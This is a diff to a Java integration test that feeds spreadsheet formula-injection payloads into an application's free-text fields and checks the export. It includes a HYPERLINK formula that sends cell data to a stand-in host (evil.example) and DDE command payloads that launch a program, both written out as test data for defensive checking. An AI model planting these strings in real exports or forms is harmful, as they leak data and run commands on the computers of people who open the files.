@@ -146,9 +146,12 @@ class FreeTextXssIntegrationTest extends SpringBrowserlessTest {
 
     static final String SLUG = "xss-corpus";
     static final int PEOPLE = 20;
-    /** The cells a spreadsheet would run as formulas, with what they would do. */
+    /**
+     * The cells a spreadsheet would run as formulas, with what they would do. A tab or line break in
+     * front is refused at the form now (PlainText), so the hidden starts left are blanks and full-width signs.
+     */
     static final List<String> FORMULAS = List.of("=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")",
-            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\u00A0=1+1", "\uFF1D1+1",
             "=1+1");
 
     /** What the hostile body and its meetings were given, to compare with what comes out. */
